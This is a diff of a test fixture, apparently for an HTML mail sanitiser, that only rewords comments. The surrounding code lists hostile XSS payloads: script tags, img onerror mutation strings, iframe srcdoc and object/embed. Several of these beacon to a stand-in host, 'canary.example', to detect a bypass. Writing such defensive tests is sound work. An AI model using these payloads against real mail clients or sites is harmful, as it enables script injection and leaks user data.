@@ -1,13 +1,13 @@
-// Hostile mail, each written by us from a class that was published: script injection (OWASP, HTML5 security cheatsheet),
-// mutation of what a sanitiser let through (Heiderich et al. 2013, "mXSS"; the DOMPurify bypasses of 2019-2024), back
-// channels in mail (Müller et al. 2020, Poddebniak et al. 2018 "EFAIL"), reading content out with style sheets (Heiderich et
-// al. 2012, "Scriptless attacks"), DOM clobbering (Khodayari 2023). CANARY hears of every success.
+// Hostile mail, written for this project after published classes of attacks: script injection (OWASP, HTML5 security
+// cheatsheet), mutation of sanitised HTML (Heiderich et al. 2013, "mXSS"; the DOMPurify bypasses of 2019-2024), back
+// channels in mail (Müller et al. 2020, Poddebniak et al. 2018 "EFAIL"), reading content by style sheets (Heiderich et
+// al. 2012, "Scriptless attacks"), DOM clobbering (Khodayari 2023). The canary's server receives a request for every success.
 
 export const CANARY_HOST = "canary.example";
 const C = `https://${CANARY_HOST}`;
 const RUN = "top.pwned=self.pwned=1;new Image().src='https://canary.example/run'";
 
-/** [what it tries, HTML] */
+/** [attempt, HTML] */
 export const HOSTILE: readonly (readonly [string, string])[] = [
   // Scripts
   ["script element", `<script>${RUN}</script>`],
@@ -82,7 +82,7 @@ export const HOSTILE: readonly (readonly [string, string])[] = [
     "attribute that closes itself",
     `<a title="</a><img src=x onerror=${RUN}>">x</a><p id="</style><img src=x onerror=${RUN}>">x`,
   ],
-  // Documents in the document, and where it goes
+  // Nested documents and navigation
   ["iframe", `<iframe src="${C}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`],
   ["frameset", `<frameset><frame src="${C}/frame"></frameset>`],
   ["object and embed", `<object data="${C}/o"><embed src="${C}/e"></object><applet code=x archive="${C}/a"></applet>`],
